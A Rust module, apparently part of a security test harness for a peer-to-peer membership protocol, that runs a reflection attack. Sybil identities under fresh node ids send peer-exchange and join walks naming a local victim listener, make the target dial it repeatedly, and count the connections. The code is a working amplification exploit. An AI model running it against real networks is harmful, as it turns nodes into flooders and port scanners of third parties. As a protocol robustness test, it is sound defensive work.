//! Reflection: make the target connect to a victim of the attacker's choosing.
//!
//! Every walk that ends at a node names an address it then dials: the origin of a peer exchange (to
//! answer it) and the joiner of a `ForwardJoin` (to link with it). Two identities send such walks as
//! fast as they like, all naming the victim, each time under a fresh node id so that no
//! "already dialing that node" check stops them: a stranger on a transient connection (peer-exchange
//! requests for someone else's exchange), and a neighbour that joined first (both kinds of walk; it
//! joins again under a new identity whenever the target evicts it).
//!
//! The victim is a plain TCP listener on 127.0.0.67 that counts the connections it gets and closes
//! them. One cheap message per connection the target opens is an amplifier for floods and port scans
//! in the target's name.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use dotray_codec::NodeId;
use dotray_membership::{Message, PeerInfo};
use tokio::net::TcpListener;
use tokio::time::Instant;

use crate::sybil::Sybil;
use crate::{Report, Result};

/// The victim's address (port chosen by the system).
const VICTIM_IP: [u8; 4] = [127, 0, 0, 67];
/// Walks each identity sends per second.
const WALKS_PER_SEC: u64 = 50;

/// Runs the attack against `target` until `deadline`.
pub async fn run(target: SocketAddr, deadline: Instant, report: &mut Report) -> Result<()> {
    let listener = TcpListener::bind(SocketAddr::from((VICTIM_IP, 0))).await?;
    let victim = listener.local_addr()?;
    let hits = Arc::new(AtomicU64::new(0));
    let counter = hits.clone();
    let victim_task = tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::Relaxed);
            drop(socket);
        }
    });
    let mut stranger = Sybil::connect(target).await?;
    let mut neighbour = Sybil::connect(target).await?;
    neighbour.send(Message::Join)?;
    let named = |_: ()| PeerInfo::new(NodeId::from_bytes(rand::random()), victim);
    let (mut walks, mut rejoins) = (0u64, 0u64);
    let mut tick = tokio::time::interval(Duration::from_millis(1_000 / WALKS_PER_SEC));
    while Instant::now() < deadline {
        tick.tick().await;
        let exchange = |origin| Message::PeerExchangeRequest {
            origin,
            ttl: 0,
            peers: vec![],
            exchange_id: rand::random(),
        };
        // The stranger names someone else as the origin of its exchange; the neighbour alternates.
        let _ = stranger.send(exchange(named(())));
        let walk = if walks % 2 == 0 {
            exchange(named(()))
        } else {
            Message::ForwardJoin { node: named(()), ttl: 0 }
        };
        let _ = neighbour.send(walk);
        walks += 2;
        // Keep both connections served (pings answered) between ticks.
        if stranger.serve_pending() {
            stranger.close().await;
            stranger = Sybil::connect(target).await?;
        }
        if neighbour.serve_pending() {
            // Evicted to make room for someone else: join again, under a new identity.
            neighbour.close().await;
            neighbour = Sybil::connect(target).await?;
            neighbour.send(Message::Join)?;
            rejoins += 1;
        }
    }
    // Dials already under way reach the victim a little later.
    tokio::time::sleep(Duration::from_secs(1)).await;
    victim_task.abort();
    stranger.close().await;
    neighbour.close().await;
    report.add("walks_sent", walks);
    report.add("neighbour_rejoins", rejoins);
    report.add("victim_connections", hits.load(Ordering::Relaxed));
    Ok(())
}
